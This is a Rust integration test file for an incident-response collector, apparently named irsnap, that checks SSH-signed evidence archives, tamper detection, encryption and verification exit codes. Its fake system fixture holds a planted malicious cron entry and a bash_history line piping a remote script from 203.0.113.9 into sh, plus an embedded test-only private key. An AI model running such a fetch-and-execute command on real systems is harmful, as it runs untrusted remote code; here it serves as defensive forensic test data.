//! `collect --sign KEY` and `verify --trusted KEY`: SSH signatures that the standard tool
//! checks both ways (irsnap's signatures verified by `ssh-keygen -Y verify`, tampered files
//! rejected by it; a signature made by `ssh-keygen -Y sign` accepted by irsnap), the exit
//! code and word for an archive nothing vouches for (5, UNAUTHENTICATED), and `verify` over
//! several archives and directories.

use crate::harness::{Archive, RootBuilder, irsnap};
use serde_json::Value;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

/// A test-only key (generated for these tests; it signs nothing else).
const TEST_KEY: &str = "-----BEGIN OPENSSH PRIVATE KEY-----
b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW
QyNTUxOQAAACDyF6Sm2CdzFw88JYoBT4k7o1QzvAEbmO9iah1Pz/p7RwAAAJDqLGFR6ixh
UQAAAAtzc2gtZWQyNTUxOQAAACDyF6Sm2CdzFw88JYoBT4k7o1QzvAEbmO9iah1Pz/p7Rw
AAAEAfS6KdlXNUx608gEVHSe3A+8gSQPSiZhrh7nY3KZql1PIXpKbYJ3MXDzwligFPiTuj
VDO8ARuY72JqHU/P+ntHAAAAC2lyc25hcC10ZXN0AQI=
-----END OPENSSH PRIVATE KEY-----
";
const TEST_PUB: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPIXpKbYJ3MXDzwligFPiTujVDO8ARuY72JqHU/P+ntH irsnap-test";

fn have_ssh_keygen() -> bool {
    // ssh-keygen has no --version; it exists when it can be started.
    Command::new("ssh-keygen")
        .arg("-?")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .is_ok()
}

struct Keys {
    private: PathBuf,
    public: PathBuf,
    allowed: PathBuf,
}

fn keys(dir: &Path) -> Keys {
    let private = dir.join("responder");
    std::fs::write(&private, TEST_KEY).unwrap();
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&private, std::fs::Permissions::from_mode(0o600)).unwrap();
    }
    let public = dir.join("responder.pub");
    std::fs::write(&public, format!("{TEST_PUB}\n")).unwrap();
    let allowed = dir.join("allowed_signers");
    std::fs::write(
        &allowed,
        format!("ir@example.org namespaces=\"irsnap\" {TEST_PUB}\n"),
    )
    .unwrap();
    Keys {
        private,
        public,
        allowed,
    }
}

fn root() -> RootBuilder {
    let r = RootBuilder::new();
    r.write("etc/crontab", b"*/5 * * * * root /tmp/.x/stage.sh\n");
    r.write("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n");
    r.write(
        "root/.bash_history",
        b"curl -s http://203.0.113.9/p.sh | sh\n",
    );
    r
}

fn collect(root: &Path, out: &Path, extra: &[&str]) -> (i32, Value, PathBuf) {
    let mut args = vec![
        "collect",
        "--json",
        "--root",
        root.to_str().unwrap(),
        "-o",
        out.to_str().unwrap(),
    ];
    args.extend_from_slice(extra);
    let run = irsnap(&args);
    let v: Value = serde_json::from_str(&run.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}{}", run.stdout, run.stderr));
    let path = PathBuf::from(v["archive"].as_str().unwrap());
    (run.code, v, path)
}

fn with_suffix(p: &Path, suffix: &str) -> PathBuf {
    let mut s = p.as_os_str().to_os_string();
    s.push(suffix);
    PathBuf::from(s)
}

/// `ssh-keygen -Y verify` of `data` against `sig`; its exit status and output.
fn ssh_verify(allowed: &Path, sig: &Path, data: &[u8]) -> (bool, String) {
    let mut child = Command::new("ssh-keygen")
        .args(["-Y", "verify", "-f"])
        .arg(allowed)
        .args(["-I", "ir@example.org", "-n", "irsnap", "-s"])
        .arg(sig)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(data).unwrap();
    let o = child.wait_with_output().unwrap();
    (
        o.status.success(),
        format!(
            "{}{}",
            String::from_utf8_lossy(&o.stdout),
            String::from_utf8_lossy(&o.stderr)
        ),
    )
}

#[test]
fn signed_archives_verify_with_ssh_keygen_and_irsnap_and_tampering_is_rejected_by_both() {
    let work = tempfile::tempdir().unwrap();
    let k = keys(work.path());
    let r = root();
    let out = work.path().join("out");
    let (code, summary, archive) =
        collect(r.path(), &out, &["--sign", k.private.to_str().unwrap()]);
    assert_eq!(code, 0, "{summary}");
    assert!(
        summary["signed_by"]
            .as_str()
            .unwrap()
            .starts_with("SHA256:")
    );
    let sig = with_suffix(&archive, ".sig");
    assert!(sig.exists(), "no signature beside the archive");
    let a = archive.to_str().unwrap();
    let t = k.allowed.to_str().unwrap();

    // The manifest says who signed; the signature inside covers it.
    let mut z = Archive::open(&archive);
    let m = z.manifest();
    assert_eq!(m["signature"]["scheme"], "sshsig");
    assert_eq!(m["signature"]["namespace"], "irsnap");
    assert!(TEST_PUB.starts_with(m["signature"]["public_key"].as_str().unwrap()));
    let manifest_bytes = z.member("manifest.json");
    let inner_sig = work.path().join("manifest.json.sig");
    std::fs::write(&inner_sig, z.member("manifest.json.sig")).unwrap();

    let ok = irsnap(&["verify", "--trusted", t, a]);
    assert_eq!(ok.code, 0, "{}", ok.stdout);
    assert!(ok.stdout.contains("good, by trusted key"), "{}", ok.stdout);
    assert!(ok.stdout.contains("(ir@example.org)"), "{}", ok.stdout);
    // A bare public key file trusts too.
    let pubkey = irsnap(&["verify", "--trusted", k.public.to_str().unwrap(), a]);
    assert_eq!(pubkey.code, 0, "{}", pubkey.stdout);

    let bytes = std::fs::read(&archive).unwrap();
    if have_ssh_keygen() {
        let (good, said) = ssh_verify(&k.allowed, &sig, &bytes);
        assert!(good, "ssh-keygen rejects irsnap's signature: {said}");
        let (good, said) = ssh_verify(&k.allowed, &inner_sig, &manifest_bytes);
        assert!(good, "ssh-keygen rejects the manifest signature: {said}");
        let mut tampered = bytes.clone();
        tampered[bytes.len() / 2] ^= 0x01;
        assert!(!ssh_verify(&k.allowed, &sig, &tampered).0);
        let edited = String::from_utf8(manifest_bytes.clone()).unwrap().replacen(
            "\"status\": \"",
            "\"status\": \"x",
            1,
        );
        assert!(!ssh_verify(&k.allowed, &inner_sig, edited.as_bytes()).0);

        // The other way: a signature ssh-keygen makes (sha512) over the file is accepted.
        let copy = work.path().join("copy.zip");
        std::fs::copy(&archive, &copy).unwrap();
        let st = Command::new("ssh-keygen")
            .args(["-Y", "sign", "-n", "irsnap", "-f"])
            .arg(&k.private)
            .arg(&copy)
            .stderr(Stdio::null())
            .status()
            .unwrap();
        assert!(st.success());
        assert!(with_suffix(&copy, ".sig").exists());
        let theirs = irsnap(&["verify", "--trusted", t, copy.to_str().unwrap()]);
        assert_eq!(theirs.code, 0, "{}", theirs.stdout);
        assert!(
            theirs
                .stdout
                .contains("signature beside (.sig): good, by trusted key"),
            "{}",
            theirs.stdout
        );
    } else {
        eprintln!("SKIPPED: ssh-keygen not installed (scripts/install-test-deps.sh)");
    }

    // Tampered: one byte of the file. The sidecar and the signature beside both disagree;
    // without them, the signature inside (or the member hashes) still does.
    let mut tampered = bytes.clone();
    tampered[bytes.len() / 3] ^= 0x01;
    std::fs::write(&archive, &tampered).unwrap();
    let bad = irsnap(&["verify", "--trusted", t, a]);
    assert_eq!(bad.code, 3, "{}", bad.stdout);
    assert!(bad.stdout.contains("SIDECAR MISMATCH"), "{}", bad.stdout);
    assert!(bad.stdout.contains("SIGNATURE BESIDE"), "{}", bad.stdout);
    std::fs::remove_file(with_suffix(&archive, ".sha256")).unwrap();
    std::fs::remove_file(&sig).unwrap();
    let bad = irsnap(&["verify", "--trusted", t, a]);
    assert_eq!(bad.code, 3, "{}", bad.stdout);
    // Restored, with nothing beside it: the signature inside authenticates it.
    std::fs::write(&archive, &bytes).unwrap();
    let alone = irsnap(&["verify", "--trusted", t, a]);
    assert_eq!(alone.code, 0, "{}", alone.stdout);
    assert!(
        alone.stdout.starts_with("sidecar: none"),
        "{}",
        alone.stdout
    );
    // Without --trusted nothing says who signed: UNAUTHENTICATED, with the signer named.
    let unsure = irsnap(&["verify", a]);
    assert_eq!(unsure.code, 5, "{}", unsure.stdout);
    assert!(
        unsure.stdout.contains("UNAUTHENTICATED"),
        "{}",
        unsure.stdout
    );
    assert!(
        unsure.stdout.contains("signed by SHA256:"),
        "{}",
        unsure.stdout
    );
}

#[test]
fn an_unsigned_archive_without_its_sidecar_is_unauthenticated_never_ok() {
    let work = tempfile::tempdir().unwrap();
    let k = keys(work.path());
    let r = root();
    let out = work.path().join("out");
    let (code, _, archive) = collect(r.path(), &out, &[]);
    assert_eq!(code, 0);
    let a = archive.to_str().unwrap();
    assert_eq!(irsnap(&["verify", a]).code, 0);
    // --trusted asks for a signature: the sidecar alone is not one.
    let asked = irsnap(&["verify", "--trusted", k.public.to_str().unwrap(), a]);
    assert_eq!(asked.code, 5, "{}", asked.stdout);
    assert!(asked.stdout.contains("not signed"), "{}", asked.stdout);
    std::fs::remove_file(with_suffix(&archive, ".sha256")).unwrap();
    let lost = irsnap(&["verify", a]);
    assert_eq!(lost.code, 5, "{}", lost.stdout);
    assert!(lost.stdout.contains("UNAUTHENTICATED"), "{}", lost.stdout);
    assert!(
        !lost.stdout.lines().any(|l| l.starts_with("OK")),
        "{}",
        lost.stdout
    );
    let json = irsnap(&["verify", "--json", a]);
    let v: Value = serde_json::from_str(&json.stdout).unwrap();
    assert_eq!(v[0]["verdict"], "unauthenticated");
    assert_eq!(v[0]["exit_code"], 5);
}

#[test]
fn verify_takes_several_archives_and_directories_and_the_worst_wins() {
    let work = tempfile::tempdir().unwrap();
    let r = root();
    let out = work.path().join("out");
    let (_, _, first) = collect(r.path(), &out, &[]);
    // Archive names are per second: a second archive in the same directory needs another.
    let out2 = work.path().join("out2");
    let (_, _, second) = collect(r.path(), &out2, &[]);
    let moved = out.join("second.zip");
    std::fs::rename(&second, &moved).unwrap();
    std::fs::rename(
        with_suffix(&second, ".sha256"),
        with_suffix(&moved, ".sha256"),
    )
    .unwrap();
    let d = out.to_str().unwrap();
    let both = irsnap(&["verify", d]);
    assert_eq!(both.code, 0, "{}", both.stdout);
    assert_eq!(
        both.stdout.lines().filter(|l| l.starts_with("OK ")).count(),
        2,
        "{}",
        both.stdout
    );
    // One without its sidecar: 5; plus one damaged: 3.
    std::fs::remove_file(with_suffix(&moved, ".sha256")).unwrap();
    assert_eq!(irsnap(&["verify", d]).code, 5);
    let bad = work.path().join("bad.zip");
    let mut b = std::fs::read(&first).unwrap();
    b.extend_from_slice(b"trailing");
    std::fs::write(&bad, b).unwrap();
    let all = irsnap(&["verify", d, bad.to_str().unwrap()]);
    assert_eq!(all.code, 3, "{}", all.stdout);
    let verdicts: Vec<&str> = all
        .stdout
        .lines()
        .filter_map(|l| l.split_whitespace().next())
        .filter(|w| ["OK", "UNAUTHENTICATED", "FAILED"].contains(w))
        .collect();
    assert_eq!(
        verdicts,
        ["OK", "UNAUTHENTICATED", "FAILED"],
        "{}",
        all.stdout
    );
    let json = irsnap(&["verify", "--json", d, bad.to_str().unwrap()]);
    let v: Value = serde_json::from_str(&json.stdout).unwrap();
    let got: Vec<&str> = v
        .as_array()
        .unwrap()
        .iter()
        .map(|x| x["verdict"].as_str().unwrap())
        .collect();
    assert_eq!(got, ["intact", "unauthenticated", "damaged"]);
    assert_eq!(json.code, 3);
}

#[test]
fn signed_and_encrypted_archives_sign_the_ciphertext_beside_and_the_manifest_inside() {
    let work = tempfile::tempdir().unwrap();
    let k = keys(work.path());
    let id = age::x25519::Identity::generate();
    let recipient = id.to_public().to_string();
    let identity = work.path().join("case.txt");
    {
        use age::secrecy::ExposeSecret;
        std::fs::write(&identity, format!("{}\n", id.to_string().expose_secret())).unwrap();
    }
    let recipient = recipient.as_str();
    let r = root();
    let out = work.path().join("out");
    let (code, v, archive) = collect(
        r.path(),
        &out,
        &[
            "--sign",
            k.private.to_str().unwrap(),
            "--encrypt-to",
            recipient,
        ],
    );
    assert_eq!(code, 0, "{v}");
    assert!(archive.to_str().unwrap().ends_with(".zip.age"));
    let a = archive.to_str().unwrap();
    let t = k.allowed.to_str().unwrap();
    let i = identity.to_str().unwrap();
    // Without the key: the signature beside checks the ciphertext, the contents are not
    // checked (exit 1, as before).
    let courier = irsnap(&["verify", "--trusted", t, a]);
    assert_eq!(courier.code, 1, "{}", courier.stdout);
    assert!(
        courier
            .stdout
            .contains("signature beside (.sig): good, by trusted key"),
        "{}",
        courier.stdout
    );
    if have_ssh_keygen() {
        let (good, said) = ssh_verify(
            &k.allowed,
            &with_suffix(&archive, ".sig"),
            &std::fs::read(&archive).unwrap(),
        );
        assert!(good, "{said}");
    }
    let full = irsnap(&["verify", "--trusted", t, "--identity", i, a]);
    assert_eq!(full.code, 0, "{}", full.stdout);
    assert!(
        full.stdout
            .contains("signature inside (manifest.json.sig): good, by trusted key"),
        "{}",
        full.stdout
    );
    // Nothing beside it: the manifest's signature inside the ciphertext still holds.
    std::fs::remove_file(with_suffix(&archive, ".sha256")).unwrap();
    std::fs::remove_file(with_suffix(&archive, ".sig")).unwrap();
    let alone = irsnap(&["verify", "--trusted", t, "--identity", i, a]);
    assert_eq!(alone.code, 0, "{}", alone.stdout);
    assert_eq!(irsnap(&["verify", "--identity", i, a]).code, 5);
}

#[test]
fn keys_that_cannot_sign_are_refused_before_anything_is_collected() {
    let work = tempfile::tempdir().unwrap();
    let k = keys(work.path());
    let out = work.path().join("out");
    let o = out.to_str().unwrap();
    let public = irsnap(&["collect", "-o", o, "--sign", k.public.to_str().unwrap()]);
    assert_eq!(public.code, 1, "{}", public.stderr);
    assert!(
        public.stderr.contains("it is a public key"),
        "{}",
        public.stderr
    );
    let missing = irsnap(&["collect", "-o", o, "--sign", "/nonexistent/key"]);
    assert_eq!(missing.code, 1);
    assert!(!out.exists(), "a refused run created its output directory");
    if have_ssh_keygen() {
        let locked = work.path().join("locked");
        let st = Command::new("ssh-keygen")
            .args(["-q", "-t", "ed25519", "-N", "a passphrase", "-f"])
            .arg(&locked)
            .status()
            .unwrap();
        assert!(st.success());
        let r = irsnap(&["collect", "-o", o, "--sign", locked.to_str().unwrap()]);
        assert_eq!(r.code, 1);
        assert!(r.stderr.contains("passphrase-protected"), "{}", r.stderr);
        // The secret key's text is never echoed.
        assert!(!r.stderr.contains("BEGIN OPENSSH"));
    }
}
